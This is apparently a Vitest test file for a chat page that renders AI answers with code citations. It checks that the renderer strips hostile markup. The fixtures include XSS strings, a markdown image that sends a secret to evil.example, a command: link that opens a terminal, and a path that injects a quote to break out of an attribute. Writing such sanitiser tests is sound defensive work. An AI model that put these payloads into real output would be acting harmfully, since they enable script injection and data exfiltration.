import { describe, expect, it } from "vitest";
import { answerHtml } from "../../src/chat/page/render";
import { newTurn, type Turn } from "../../src/chat/conversation";

const turn = (answer: string, verified = true): Turn => ({
  ...newTurn("1", "Where?", []),
  state: "done",
  answer,
  citations: [{ path: "src/app.py", start_line: 4, end_line: 9, verified }],
});

describe("an answer on the chat page", () => {
  it("has a button for each verified citation", () => {
    const html = answerHtml(turn("Here [src/app.py:4-9]."));
    expect(html).toContain('data-path="src/app.py" data-start="4" data-end="9"');
  });

  it("has a button in the heading of a passage", () => {
    expect(answerHtml(turn("### src/app.py:4-9 — `run`"))).toContain('data-path="src/app.py"');
    expect(answerHtml(turn("### other.py:4-9"))).not.toContain("<button");
  });

  it("has no button for an unverified citation, or while it is being written", () => {
    expect(answerHtml(turn("Here [src/app.py:4-9].", false))).not.toContain("<button");
    expect(answerHtml({ ...turn("Here [src/app.py:4-9]."), state: "writing" })).not.toContain("<button");
    expect(answerHtml(turn("Here [other.py:4]."))).not.toContain("<button");
  });

  it.each([
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "[click](command:workbench.action.terminal.new)",
    "<https://evil.example>",
    "[x]: https://evil.example\n\n[x]",
    "<script>alert(1)</script>",
  ])("contains no HTML, image or link of the text: %s", (text) => {
    expect(answerHtml(turn(text))).not.toMatch(/<(img|a|script)\b/);
  });

  it("escapes quotes in a path", () => {
    const path = '"><img src=x>';
    const html = answerHtml({ ...turn(`See [${path}:1].`), citations: [{ path, start_line: 1, end_line: 1, verified: true }] });
    expect(html).not.toContain("<img");
  });

  it("offers the terminal only for shell commands", () => {
    expect(answerHtml(turn("```sh\nmake\n```"))).toContain('data-action="run"');
    expect(answerHtml(turn("```python\nprint()\n```"))).not.toContain('data-action="run"');
  });
});
